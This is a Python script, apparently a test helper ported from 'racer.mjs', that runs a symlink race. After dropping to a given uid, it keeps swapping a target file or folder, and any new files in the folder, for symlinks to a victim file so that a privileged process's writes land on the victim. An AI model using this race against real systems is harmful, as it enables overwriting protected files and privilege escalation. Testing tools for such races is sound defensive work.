# racer.mjs for a host without node. Arguments: uid, the way, the folder, the victim. Prints `ready`, and goes on until it is killed.
import os, shutil, stat, sys

uid, way, folder, victim = sys.argv[1:]
os.setgroups([])
os.setgid(int(uid))
os.setuid(int(uid))
aside = os.path.join(folder, '.aside')
target = os.path.join(folder, 'target')


def attempt(deed, *words):
    try:
        deed(*words)
    except OSError:
        pass  # Root was faster, or the kernel does not allow it.


def put(path, text):
    with open(path, 'w') as file:
        file.write(text)


def replace(path):
    """Puts a symlink in the place of a file or directory, whoever made that."""
    mode = os.lstat(path).st_mode
    if stat.S_ISLNK(mode):
        return
    attempt(os.rmdir if stat.S_ISDIR(mode) else os.remove, path)
    attempt(os.rename, path, aside)
    os.symlink(os.path.dirname(victim) if stat.S_ISDIR(mode) else victim, path)


def new_names():
    """Whatever is new in the folder becomes a symlink to the victim, or to its folder."""
    for name in os.listdir(folder):
        if name == '.aside':
            attempt(os.remove, aside)
            attempt(shutil.rmtree, aside)
        elif name != 'target':
            attempt(replace, os.path.join(folder, name))


def files():
    """The target is a file at one moment, and a symlink to the victim at the next."""
    attempt(put, aside, 'mine\n')
    attempt(os.rename, aside, target)
    attempt(os.symlink, victim, aside)
    attempt(os.rename, aside, target)


def folders():
    """The target is a directory at one moment, and a symlink to the folder of the victim at the next."""
    attempt(os.remove, target)
    attempt(shutil.rmtree, target)
    attempt(os.mkdir, target)
    attempt(put, os.path.join(target, 'victim.conf'), 'mine\n')
    attempt(os.chmod, target, 0o777)
    attempt(shutil.rmtree, aside)
    attempt(os.rename, target, aside)
    attempt(os.symlink, os.path.dirname(victim), target)
    for _ in range(30):  # As long a moment as the directory has.
        os.lstat(os.path.dirname(folder))


print('ready', flush=True)
while True:
    {'new names': new_names, 'target': files, 'folder': folders}[way]()
